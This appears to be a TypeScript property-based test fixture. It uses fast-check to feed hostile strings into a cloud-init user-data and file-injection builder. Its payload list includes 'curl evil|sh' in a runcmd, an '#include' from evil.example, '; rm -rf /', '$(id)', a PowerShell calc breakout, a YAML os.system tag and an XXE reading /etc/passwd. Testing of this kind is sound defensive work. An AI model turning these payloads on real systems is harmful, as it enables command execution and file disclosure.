import fc from "fast-check";
import type { LinuxData } from "../../adapters/aws/user-data/cloud-init.ts";
import type { FileToWrite } from "../../src/domain/injected-files/injected-file.ts";
import { problemsOfPath } from "../../src/domain/injected-files/paths.ts";

/** What YAML, a shell, PowerShell, XML or a careless reader would take for something else than text. */
const hostile = [
  'web1\nruncmd:\n - [sh,-c,"curl evil|sh"]',
  "#cloud-config\nruncmd: [reboot]",
  "## template: jinja\n{{ ds.meta_data }}",
  "#include http://evil.example/x",
  "#!/bin/sh\nreboot",
  ...[
    "yes",
    "No",
    "on",
    "~",
    "null",
    "012",
    "0x1f",
    "1e3",
    "1_000",
    "12:30:45",
    "2024-01-01",
    ".inf",
    ".nan",
    "-",
    "=",
  ],
  ...["<<", "<<: *a", "&a b", "*a", "!!js/function", "!!python/object/apply:os.system ['id']", "!!binary aGk="],
  ...["--- x", "...\n---\na: b", "? a\n: b", "%YAML 1.1", "@at", "`id`", "$(id)", `\${IFS}`, "; rm -rf /", "a && b"],
  ...[
    "'; Start-Process calc; '",
    "\u2019; calc; \u2018",
    "$env:TEMP",
    "@'\nx\n'@",
    "`n`0",
    "</powershell><script>calc</script>",
  ],
  ...[
    "<persist>true</persist>",
    "]]>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&amp;&#x0;",
    '"}]}',
    "\\u0000\\",
    "\\\\",
  ],
  ...[
    "\r\n",
    "\r",
    "\n\n \t",
    "\t\tx",
    " x ",
    "a: b # c",
    "\0",
    "\u007f",
    "\u0085",
    "\u00a0",
    "\u2028",
    "\u2029",
    "\ufeff",
  ],
  ...[
    "\ufffe",
    "\uffff",
    "\u202egpj.sh",
    "\u{1f600}\u{1f468}\u200d\u{1f469}",
    "\u{10ffff}",
    "\u0301",
    "ﷺ",
    "%0a%00",
    "\u001b[2J",
  ],
];

export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...hostile) }, fc.string({ unit: "binary", maxLength: 30 })),
    {
      minLength: 1,
      maxLength: 4,
    },
  )
  .map((parts) => parts.join(""));

const anyName = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: "binary", minLength: 1, maxLength: 20 }));

/** Paths that pass, as near to those that don't as they come. */
export const linuxPath: fc.Arbitrary<string> = fc
  .array(
    anyName.map((name) => name.replaceAll("/", "|")),
    { minLength: 1, maxLength: 4 },
  )
  .map((parts) => `/${parts.join("/")}`)
  .filter((path) => problemsOfPath(path, "LINUX").length === 0);

export const windowsPath: fc.Arbitrary<string> = fc
  .array(
    anyName.map((name) => name.replaceAll(/[\\:<>"/|?*\n\r\t\0]/g, "")),
    { minLength: 1, maxLength: 4 },
  )
  .map((parts) => `C:\\${parts.join("\\")}`)
  .filter((path) => problemsOfPath(path, "WINDOWS").length === 0);

/** Text that packs well, and bytes that don't. */
export const bytes: fc.Arbitrary<Uint8Array> = fc.oneof(
  hostileText.map((text) => Buffer.from(text)),
  fc.tuple(hostileText, fc.nat(200)).map(([text, count]) => Buffer.from(text.repeat(count))),
  fc.uint8Array({ maxLength: 300 }),
  fc.uint8Array({ minLength: 1_000, maxLength: 2_000 }),
);

const user = fc.oneof(fc.constant("root"), fc.constantFrom("yes", "no", "null", "_apt", "www-data", "a"));

const linuxFile: fc.Arbitrary<FileToWrite> = fc.record({
  path: linuxPath,
  mode: fc.constantFrom("0644", "0600", "0755", "0000", "0777", "0100"),
  owner: user,
  group: user,
  bytes,
  secret: fc.boolean(),
});

export const linuxData: fc.Arbitrary<LinuxData> = fc.record({
  files: fc.array(linuxFile, { maxLength: 5 }),
  parametersXml: fc.option(hostileText),
  parametersSecret: fc.boolean(),
  sshKey: fc.option(
    fc
      .constantFrom("", " yes: no # x", " \"quoted\" {a} [b] 'c'", " ü\u{1f600}\ufffe", " *a &b !!c")
      .map((comment) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH${comment}`),
  ),
});
